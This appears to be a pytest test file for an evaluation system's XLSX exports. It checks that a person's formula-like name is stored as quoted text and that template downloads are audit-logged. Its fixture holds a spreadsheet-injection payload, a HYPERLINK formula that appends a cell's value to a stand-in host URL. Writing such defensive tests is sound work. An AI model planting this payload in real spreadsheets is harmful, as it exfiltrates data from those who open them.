"""The evaluation body's results template and the city's titles export (XLSX) store a formula-like
name as quoted text, never a live formula: through dte.core.spreadsheet."""

from __future__ import annotations

import io
from datetime import date

import pytest
from openpyxl import load_workbook

from dte.evaluation import services
from dte.people.models import Person
from tests.evaluation.test_level_assessment import SCORE_AT, accepted, certificate, registration  # noqa: F401
from tests.training import helpers as h

FORMULA = '=HYPERLINK("http://x/?"&B2,"点击")'


def _name_cell(content: bytes, column: int):
    return load_workbook(io.BytesIO(content)).active.cell(2, column)


@pytest.fixture
def formula_named(trainee):
    Person.objects.filter(pk=trainee.person_id).update(name=FORMULA)


def test_the_results_template_stores_a_formula_like_name_as_text(
    accepted,  # noqa: F811
    formula_named,
    evaluation_staff,
    client_as,
):
    r = client_as(evaluation_staff).get("/evaluation/results/template.xlsx")
    cell = _name_cell(r.content, 3)
    assert cell.value == FORMULA and cell.data_type == "s" and cell.quotePrefix


def test_the_titles_export_stores_a_formula_like_name_as_text(
    accepted,  # noqa: F811
    formula_named,
    evaluation_staff,
    city_officer,
    client_as,
):
    reg = services.scores_record(
        actor=evaluation_staff,
        registration=accepted,
        theory_score=60,
        ability_score=60,
        exam_date=date(2025, 6, 1),
        at=SCORE_AT,
    )
    services.level_certificate_issue(actor=evaluation_staff, registration=reg, at=h.local(2025, 6, 20, 10))
    r = client_as(city_officer).get("/evaluation/titles/export.xlsx")
    cell = _name_cell(r.content, 1)
    assert cell.value == FORMULA and cell.data_type == "s" and cell.quotePrefix


def test_downloading_the_results_template_with_full_id_numbers_is_recorded(
    accepted,  # noqa: F811
    evaluation_staff,
    client_as,
):
    from dte.audit.models import AuditEntry

    r = client_as(evaluation_staff).get("/evaluation/results/template.xlsx")
    assert r.status_code == 200
    entry = AuditEntry.objects.get(action="evaluation.results_template.export")
    assert entry.actor_id == evaluation_staff.pk and entry.changes["rows"] == 1
